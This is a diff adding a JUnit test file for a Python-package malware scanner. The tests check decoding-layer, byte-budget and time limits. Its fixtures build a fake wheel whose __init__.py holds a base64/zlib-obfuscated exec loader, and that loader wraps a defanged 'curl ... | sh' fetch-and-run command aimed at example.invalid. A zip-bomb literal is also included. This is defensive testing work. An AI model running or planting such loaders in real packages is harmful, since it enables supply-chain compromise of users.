@@ -1,0 +1,120 @@
+package dev.kingsnake.internal.decode;
+
+import dev.kingsnake.Diagnostic;
+import dev.kingsnake.DiagnosticCode;
+import dev.kingsnake.Finding;
+import dev.kingsnake.Limits;
+import dev.kingsnake.ScanResult;
+import dev.kingsnake.Scanner;
+import dev.kingsnake.spi.PythonFile;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.Base64;
+import java.util.List;
+import java.util.Optional;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+/**
+ * Every decoding bound (bytes per layer, layers, bytes per package, time) is a diagnostic when it cuts
+ * decoding short, and what is decoded reaches the rules as layers carrying their chain. Payloads are our own
+ * defanged text (hosts under example.invalid).
+ */
+class DecodeLimitsTest {
+    private static final String PAYLOAD = "import os\nos.system('curl -s https://example.invalid/limits | sh')\n";
+
+    @BeforeAll
+    static void parserPresent() {
+        DecodeFixturesTest.parserPresent();
+    }
+
+    private static String b64(byte[] b) {
+        return Base64.getEncoder().encodeToString(b);
+    }
+
+    /** exec(zlib.decompress(base64.b64decode(base64.b64decode('...')))): three decoding steps. */
+    private static byte[] threeSteps() {
+        String blob = b64(b64(PrimitivesTest.deflate(PAYLOAD.getBytes(StandardCharsets.UTF_8)))
+                .getBytes(StandardCharsets.US_ASCII));
+        return ("import base64, zlib\nexec(zlib.decompress(base64.b64decode(base64.b64decode('" + blob + "'))))\n")
+                .getBytes(StandardCharsets.UTF_8);
+    }
+
+    private static byte[] wheel(byte[] init) throws IOException {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
+            zip.putNextEntry(new ZipEntry("demo-1.0.dist-info/METADATA"));
+            zip.write("Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n".getBytes(StandardCharsets.UTF_8));
+            zip.putNextEntry(new ZipEntry("demo/__init__.py"));
+            zip.write(init);
+        }
+        return bytes.toByteArray();
+    }
+
+    private static ScanResult scan(Limits limits, byte[] init) throws IOException {
+        Scanner scanner = Scanner.builder().rules(List.of(new EngineDecodeTest.ProbeRule())).limits(limits).build();
+        return scanner.scan("demo-1.0-py3-none-any.whl", new ByteArrayInputStream(wheel(init)));
+    }
+
+    private static boolean limit(List<Diagnostic> diags, String text) {
+        return diags.stream().anyMatch(d -> d.code() == DiagnosticCode.LIMIT_EXCEEDED && d.message().contains(text));
+    }
+
+    @Test
+    void decodedLayerReachesRulesWithItsChain() throws IOException {
+        ScanResult r = scan(Limits.defaults(), threeSteps());
+        List<Finding> probes = r.findings().stream().filter(f -> f.ruleId().equals("KS-TEST-PROBE")).toList();
+        assertEquals(1, probes.size(), r::toString);
+        assertEquals("demo/__init__.py#layer1", probes.get(0).file());
+        assertEquals(List.of("base64", "base64", "zlib"), probes.get(0).decodeChain());
+    }
+
+    @Test
+    void moreLayersThanAllowedIsADiagnostic() throws IOException {
+        ScanResult r = scan(Limits.builder().maxDecodeLayers(2).build(), threeSteps());
+        assertTrue(r.findings().stream().noneMatch(f -> f.ruleId().equals("KS-TEST-PROBE")), r::toString);
+        assertTrue(limit(r.diagnostics(), "more than 2 decoding layers"), r.diagnostics()::toString);
+    }
+
+    @Test
+    void packageBudgetIsADiagnostic() throws IOException {
+        ScanResult r = scan(Limits.builder().maxDecodedBytesPerPackage(100).build(), threeSteps());
+        assertTrue(limit(r.diagnostics(), "package decode budget exhausted"), r.diagnostics()::toString);
+    }
+
+    @Test
+    void packageTimeIsADiagnostic() throws IOException {
+        ScanResult r = scan(Limits.builder().packageTimeout(Duration.ofNanos(1)).build(), threeSteps());
+        assertTrue(limit(r.diagnostics(), "time limit"), r.diagnostics()::toString);
+    }
+
+    @Test
+    void bombInALiteralDecodedBlindlyIsADiagnostic() {
+        // no decoding call names the literal: it is guessed (base64, then zlib) because the file runs built code
+        String bomb = b64(PrimitivesTest.deflate(new byte[8 * 1024 * 1024]));
+        byte[] src = ("blob = '" + bomb + "'\nexec(code)\n").getBytes(StandardCharsets.UTF_8);
+        PythonFile f = DecodeFixturesTest.model("bomb.py", src, List.of(), Optional.empty());
+        Deobfuscator.Result r = new Deobfuscator(Limits.builder().maxDecodedBytesPerLayer(1 << 20).build())
+                .peel(f, new DecodeBudget(1 << 26));
+        assertTrue(r.layers().isEmpty(), r.layers()::toString);
+        assertTrue(limit(r.diagnostics(), "literal not decoded"), r.diagnostics()::toString);
+    }
+
+    @Test
+    void evalOfAnExpressionStringIsFoldedNotALayer() throws IOException {
+        byte[] src = DecodeFixturesTest.class.getResourceAsStream("/decode/layer_eval_names.py").readAllBytes();
+        Deobfuscator.Result r = new Deobfuscator(Limits.defaults())
+                .peel(DecodeFixturesTest.model("e.py", src, List.of(), Optional.empty()), new DecodeBudget(1 << 26));
+        assertEquals(1, r.layers().size(), r.layers()::toString);
+        assertEquals(List.of("rot13", "base64"), r.layers().get(0).chain());
+    }
+}
